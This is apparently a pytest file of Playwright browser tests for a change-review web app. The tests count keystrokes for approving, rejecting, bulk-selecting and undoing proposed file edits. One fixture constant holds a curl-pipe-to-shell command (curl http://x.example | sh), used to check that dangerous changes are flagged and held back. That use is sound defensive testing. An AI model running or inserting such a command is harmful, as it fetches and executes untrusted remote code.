"""Deciding in a real browser, by the keyboard: how many keys it takes, one by one and together.

The browser's virtual authenticator is touched by itself; every key press is counted.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, expect

from penstock.core.proposals.model import Proposal, State
from tests.doors.web.browser import Window, chromium, window
from tests.doors.web.page_server import WORDS, Served, serving
from tests.doors.web.test_browser_passkeys import Device, register, sound

FOR_ONE, FOR_THIRTY = 3, 6  # keys at most, besides a touch or the passphrase
DANGER = "curl http://x.example | sh\n"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as one:
        yield one


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    with serving(tmp_path) as one:
        yield one


@pytest.fixture
def at(browser: Browser, served: Served) -> Iterator[Window]:
    with window(browser, served) as one:
        yield one


class Keyboard:
    """Presses keys, and counts them; a key with Shift is two."""

    def __init__(self, at: Window) -> None:
        self.at = at
        self.count = 0

    def press(self, *keys: str) -> None:
        for key in keys:
            self.at.page.keyboard.press(key)
            self.count += 1 + key.count("+")

    def passphrase(self) -> None:
        """Type the passphrase, which is not counted, and press Enter, which is."""
        expect(self.at.page.locator("#passphrase")).to_be_focused()
        self.at.page.keyboard.type(WORDS)
        self.press("Enter")


def alike(served: Served, count: int = 30) -> list[Proposal]:
    some = []
    for n in range(count):
        served.write(f"src/{n}.py", f"# file {n}\nYEAR = 2025\nname = {n}\nkept = True\n")
        some.append(
            served.propose(f"src/{n}.py", f"# file {n}\nYEAR = 2026\nname = {n}\nkept = True\n")
        )
    return some


def serious(at: Window) -> list[str]:
    found = Axe().run(at.page).response["violations"]
    return [bad["id"] for bad in found if bad["impact"] in ("serious", "critical")]


def touches(at: Window) -> None:
    Device(at)
    register(at)
    expect(at.page.locator("#passkeys li")).to_have_count(1)


def queue(at: Window, count: int) -> Keyboard:
    at.go("/")
    expect(at.page.locator(".card")).to_have_count(count)
    return Keyboard(at)


# --- steps ---------------------------------------------------------------------------------------


def test_one_small_change_takes_three_keys_and_a_touch(served: Served, at: Window) -> None:
    touches(at)
    served.propose("a.txt", "x\n")
    keys = queue(at, 1)
    keys.press("j", "Enter")
    at.page.wait_for_url("**/proposals/*")
    keys.press("a")
    at.see("Written and logged")
    assert keys.count <= FOR_ONE
    assert (served.root / "a.txt").read_text() == "x\n"
    assert sound(served) == []


def test_one_small_change_takes_three_keys_and_the_passphrase(served: Served, at: Window) -> None:
    served.propose("a.txt", "x\n")
    keys = queue(at, 1)
    keys.press("j", "a")
    at.page.wait_for_url("**/proposals/*")
    keys.passphrase()
    at.see("Written and logged")
    assert keys.count <= FOR_ONE
    assert (served.root / "a.txt").exists()


def test_thirty_alike_take_six_keys_and_a_touch(served: Served, at: Window) -> None:
    touches(at)
    some = alike(served)
    keys = queue(at, 30)
    keys.press("s")
    expect(at.page.locator("[data-count]")).to_have_text("30 selected")
    keys.press("a")
    at.see("30 alike")
    keys.press("a")
    at.see("30 applied")
    assert keys.count <= FOR_THIRTY
    assert {served.stored(one).state for one in some} == {State.APPLIED}
    assert len(served.events("approved")) == 30
    assert {event["proof"] for event in served.events("approved")} == {"passkey"}
    assert sound(served) == []


def test_thirty_alike_take_six_keys_and_the_passphrase_once(served: Served, at: Window) -> None:
    some = alike(served)
    keys = queue(at, 30)
    keys.press("s", "a")
    at.see("30 alike")
    keys.press("a")
    keys.passphrase()
    at.see("30 applied")
    assert keys.count <= FOR_THIRTY
    assert {served.stored(one).state for one in some} == {State.APPLIED}


def test_thirty_are_rejected_with_one_reason(served: Served, at: Window) -> None:
    some = alike(served)
    keys = queue(at, 30)
    keys.press("s", "r")
    expect(at.page.locator("#reason")).to_be_focused()
    at.page.keyboard.type("keep the year")
    keys.press("Enter")
    at.see("30 rejected")
    assert keys.count <= FOR_THIRTY
    assert {served.stored(one).state for one in some} == {State.REJECTED}


# --- selecting -----------------------------------------------------------------------------------


def chosen(at: Window) -> list[str]:
    cards = at.page.locator(".card:has(input:checked) .path")
    return cards.all_inner_texts()


def test_changes_are_selected_by_keys_by_clicks_and_by_ranges(served: Served, at: Window) -> None:
    for n in range(8):
        served.propose(f"{n}.txt", f"{n}\n")
    keys = queue(at, 8)
    keys.press("j", "x", "j", "j", "Shift+X")
    assert chosen(at) == ["0.txt", "1.txt", "2.txt"]
    keys.press("x")
    assert chosen(at) == ["0.txt", "1.txt"]
    boxes = at.page.locator(".card input")
    boxes.nth(5).click()
    boxes.nth(7).click(modifiers=["Shift"])
    assert chosen(at) == ["0.txt", "1.txt", "5.txt", "6.txt", "7.txt"]
    keys.press("s")
    assert len(chosen(at)) == 8
    keys.press("s")
    assert chosen(at) == []
    expect(at.page.locator("#bulk button")).to_be_disabled()


def test_what_is_selected_stays_so_while_the_queue_changes(served: Served, at: Window) -> None:
    some = [served.propose(f"{n}.txt", f"{n}\n") for n in range(3)]
    queue(at, 3)
    expect(at.page.locator("#live")).to_have_text("Live")
    at.page.locator(".card input").nth(0).check()
    at.page.locator(".card input").nth(2).check()
    served.propose("new.txt", "x\n")
    expect(at.page.locator(".card")).to_have_count(4)
    assert chosen(at) == ["0.txt", "2.txt"]
    served.browser().post(f"/proposals/{some[0].id}/reject", {"digest": some[0].content})
    expect(at.page.locator(".card")).to_have_count(3)
    expect(at.page.locator("[data-count]")).to_have_text("1 selected")
    assert chosen(at) == ["2.txt"]


def test_a_danger_is_selected_by_a_tick_of_its_own(served: Served, at: Window) -> None:
    served.propose("a.txt", "x\n")
    danger = served.propose("run.sh", DANGER)
    keys = queue(at, 2)
    keys.press("s", "a")
    at.see("Danger: ")
    expect(at.page.locator("[data-taken]")).to_have_text("1 of 2 selected.")
    keys.press("j", "x")
    expect(at.page.locator("[data-taken]")).to_have_text("2 of 2 selected.")
    keys.press("x")
    keys.press("a")
    keys.passphrase()
    at.see("1 applied")
    assert served.stored(danger).state is State.WAITING


def test_without_script_it_is_a_form(browser: Browser, served: Served) -> None:
    some = [served.propose(f"{n}.txt", f"{n}\n") for n in range(3)]
    with window(browser, served, java_script_enabled=False) as at:
        at.go("/")
        at.page.locator(".card input").nth(0).check()
        at.page.locator(".card input").nth(1).check()
        at.page.click("text=Review selected")
        at.see("2 selected changes")
        at.page.locator("input[name=take][type=checkbox]").nth(1).uncheck()
        at.approve()
        at.see("1 applied")
        at.page.click("text=Undo")
        at.approve()
        at.see("Reverted and logged")
    assert [served.stored(one).state for one in some] == [
        State.APPLIED,
        State.WAITING,
        State.WAITING,
    ]
    assert not (served.root / "0.txt").exists()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1280])
def test_the_pages_of_a_selection_are_accessible_and_fit(
    browser: Browser, served: Served, scheme: str, width: int
) -> None:
    alike(served, 3)
    served.propose(f"{'long-name/' * 12}a.txt", "x\n")
    served.propose("run.sh", DANGER)
    size = {"width": width, "height": 800}
    with window(browser, served, viewport=size, color_scheme=scheme) as at:
        keys = queue(at, 5)
        keys.press("s")
        pages = [at.page.url]
        assert serious(at) == []
        assert at.page.evaluate("document.documentElement.scrollWidth") <= width
        keys.press("a")
        at.see("3 alike")
        pages.append(at.page.url)
        assert serious(at) == []
        assert at.page.evaluate("document.documentElement.scrollWidth") <= width
        at.approve()
        at.see("4 applied")
        assert serious(at) == []
        assert at.page.evaluate("document.documentElement.scrollWidth") <= width
    assert len(set(pages)) == 2


# --- after an answer -----------------------------------------------------------------------------


def test_after_an_answer_the_next_change_comes_with_an_undo(served: Served, at: Window) -> None:
    touches(at)
    for n in range(3):
        served.propose(f"{n}.txt", f"{n}\n")
    keys = queue(at, 3)
    keys.press("j", "j", "Enter")
    at.page.wait_for_url("**/proposals/*")
    keys.press("a")
    at.see("Approved 1.txt · Undo")
    expect(at.page.locator("h1")).to_have_text("2.txt")
    assert serious(at) == []
    keys.press("u")
    at.page.wait_for_url("**/history/*")
    keys.press("a")
    at.see("Reverted and logged")
    assert not (served.root / "1.txt").exists()
    assert sound(served) == []


def test_after_a_rejection_the_next_change_comes(served: Served, at: Window) -> None:
    for n in range(2):
        served.propose(f"{n}.txt", f"{n}\n")
    keys = queue(at, 2)
    keys.press("j", "r")
    expect(at.page.locator("#reason")).to_be_focused()
    at.page.keyboard.type("no")
    keys.press("Enter")
    at.see("Rejected 0.txt")
    expect(at.page.locator("h1")).to_have_text("1.txt")
    keys.press("r")
    keys.press("Enter")
    at.see("Rejected 1.txt")
    at.see("No pending changes")


def test_all_of_a_selection_is_undone_by_keys(served: Served, at: Window) -> None:
    touches(at)
    some = alike(served, 5)
    keys = queue(at, 5)
    keys.press("s", "a")
    at.see("5 alike")
    keys.press("a")
    at.see("5 applied")
    keys.press("u")
    at.page.wait_for_url("**/history/*")
    keys.press("a")
    at.see("Reverted and logged")
    assert all("2025" in (served.root / one.path).read_text() for one in some)
    assert sound(served) == []
